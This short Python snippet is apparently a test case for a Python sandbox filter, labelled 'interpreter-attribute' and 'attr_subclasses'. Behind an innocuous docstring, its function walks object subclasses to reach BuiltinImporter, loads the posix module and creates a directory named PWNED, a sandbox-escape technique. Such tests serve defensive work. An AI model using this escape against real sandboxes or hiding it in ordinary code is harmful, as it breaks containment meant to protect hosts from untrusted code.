# rule: interpreter-attribute
# class: attr_subclasses
# success: file PWNED
def mro_method(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    base = bool.mro()[-1]
    found = [one for one in base.__subclasses__() if one.__name__ == "BuiltinImporter"]
    found[0].load_module("posix").mkdir("PWNED")
    return times
